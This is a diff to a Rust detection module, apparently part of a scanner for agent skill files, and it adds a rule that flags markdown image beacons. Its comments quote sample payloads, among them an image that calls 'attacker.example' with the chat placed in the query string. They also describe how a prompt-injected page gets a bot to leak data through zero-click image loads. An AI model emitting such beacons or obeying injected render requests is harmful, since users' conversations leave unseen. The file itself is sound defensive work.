@@ -9,6 +9,11 @@
 //! a variable or temp file filled from a secret earlier in the skill.
 //! A token in an `Authorization` header sent to the project's own API is
 //! how APIs work and is not reported.
+//!
+//! `exfil.image-beacon` is the channel that needs no code: a markdown
+//! image whose query string the agent is to fill in (`![](https://x/p.gif?u={message})`),
+//! which the reader's client fetches by itself. `High`; `Low` when the
+//! line talks about it as an attack.
 
 use std::sync::LazyLock;
 
@@ -67,11 +72,32 @@ static READER: Lazy = LazyLock::new(|| {
     )
 });
 
+/// An image beacon shown as an example of an attack ("a page asking the
+/// bot to render `![x](https://attacker.example/?q=<chat>)`") is worth a
+/// look, not a refusal.
+fn beacon(h: &Hit<'_>) -> Option<Severity> {
+    let line = [h.before(), h.tail()].concat();
+    Some(if super::instruction::talks_about_attacks(&line) { Severity::Low } else { h.base })
+}
+
 /// The line rules of this family.
 pub(super) fn rules() -> Vec<Rule> {
     use Category::{CredentialAccess as A, Exfiltration as X};
     use Severity::*;
     vec![
+        // A markdown image the reader's client loads by itself, whose query
+        // string the agent is to fill in: whatever goes in the blank leaves
+        // with the request, unseen (the zero-click channel of an injected
+        // reply). A badge's fixed URL has no blank.
+        Rule::new(
+            "exfil.image-beacon",
+            X,
+            High,
+            &["!["],
+            r"!\[[^\]\n]*\]\(\s*<?https?://[^\s)>]*[?&][^\s)>=]*=(?:[^\s)>&]*)(?:\{\{?\s*[a-z_][\w .|-]*\}|<[a-z_][\w-]*>|\$\{?[a-z_]\w*|%s|\[[a-z_][\w ]*\])",
+        )
+        .assess(beacon)
+        .explainable(),
         Rule::new("cred.secret-file", A, High, SECRET_TRIGGERS, format!("{SECRET_PATHS}|{LESSER_PATHS}"))
             .assess(secret_file)
             .warnable(),
